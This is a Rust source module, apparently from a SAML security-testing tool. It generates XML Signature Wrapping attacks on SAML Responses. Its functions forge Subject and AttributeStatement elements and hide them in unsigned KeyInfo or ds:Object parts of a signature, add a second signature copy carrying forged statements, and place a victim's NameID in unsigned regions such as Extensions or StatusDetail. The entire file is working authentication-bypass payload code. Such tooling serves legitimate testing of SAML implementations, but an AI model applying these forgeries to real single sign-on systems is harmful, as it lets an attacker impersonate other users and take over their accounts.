//! Content where no digest covers it: beside the signed assertion, and in its signature.

use super::Attacker;
use super::document::{Document, missing};
use super::place::{append, appended, extensions, object, status_detail};
use crate::WireError;
use crate::names::{ASSERTION, DSIG};
use crate::tree::Edits;
use crate::xml::escaped;
use serde::{Deserialize, Serialize};

/// A part of a signature that no digest covers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum SignaturePart {
    /// ds:KeyInfo.
    KeyInfo,
    /// A ds:Object.
    Object,
}

/// A place of the Response outside of the assertion.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum UnsignedPlace {
    /// At the end of the Response, after the assertion.
    End,
    /// Extensions, before the assertion.
    Extensions,
    /// A StatusDetail, before the assertion.
    StatusDetail,
}

impl UnsignedPlace {
    /// All of them.
    pub const ALL: [Self; 3] = [Self::End, Self::Extensions, Self::StatusDetail];

    pub(super) fn phrase(self) -> &'static str {
        match self {
            Self::End => "at the end of the Response",
            Self::Extensions => "in Extensions",
            Self::StatusDetail => "in a StatusDetail",
        }
    }

    /// Puts something there.
    pub(super) fn park(
        self,
        document: &Document<'_>,
        edits: &mut Edits,
        text: &str,
    ) -> Result<(), WireError> {
        match self {
            Self::End => append(document, edits, document.response, text),
            Self::Extensions => extensions(document, edits, text)?,
            Self::StatusDetail => status_detail(document, edits, text)?,
        }
        Ok(())
    }
}

/// S(A) with a forged Subject and AttributeStatement in it.
pub(super) fn statements_in_signature(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
    part: SignaturePart,
) -> Result<String, WireError> {
    let (_, signature) = document.signed_assertion()?;
    let statements = forged_statements(document, attacker)?;
    let mut edits = Edits::default();
    document.unsign_response(&mut edits);
    match part {
        SignaturePart::KeyInfo => {
            let key_info = document.tree.child(signature, DSIG, "KeyInfo");
            append(document, &mut edits, key_info.ok_or_else(|| missing("KeyInfo"))?, &statements);
        }
        SignaturePart::Object => {
            append(document, &mut edits, signature, &object(document, signature, &statements));
        }
    }
    Ok(edits.apply(document.xml))
}

/// A second copy of S(A) after it, with a forged Subject and AttributeStatement in an Object. The enveloped transform takes
/// one signature out, the one that is verified; whoever takes out every signature sees what was signed.
pub(super) fn second_signature(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
) -> Result<String, WireError> {
    let (_, signature) = document.signed_assertion()?;
    let object = object(document, signature, &forged_statements(document, attacker)?);
    let mut edits = Edits::default();
    document.unsign_response(&mut edits);
    edits.insert(document.tree.range(signature).end, appended(document, signature, &object));
    Ok(edits.apply(document.xml))
}

fn forged_statements(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
) -> Result<String, WireError> {
    let (tree, assertion) = (&document.tree, document.assertion()?);
    let mut forged = Edits::default();
    document.forge(&mut forged, attacker)?;
    let statements = ["Subject", "AttributeStatement"]
        .into_iter()
        .filter_map(|local| tree.child(assertion, ASSERTION, local))
        .map(|child| forged.clone().apply_to(document.xml, tree.range(child)));
    Ok(statements.collect())
}

/// A NameID outside of the signed assertion.
pub(super) fn name_id(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
    place: UnsignedPlace,
) -> Result<String, WireError> {
    document.signed_assertion()?;
    let name = escaped(attacker.victim);
    let name_id = format!(r#"<x:NameID xmlns:x="{ASSERTION}">{name}</x:NameID>"#);
    let mut edits = Edits::default();
    document.unsign_response(&mut edits);
    place.park(document, &mut edits, &name_id)?;
    Ok(edits.apply(document.xml))
}
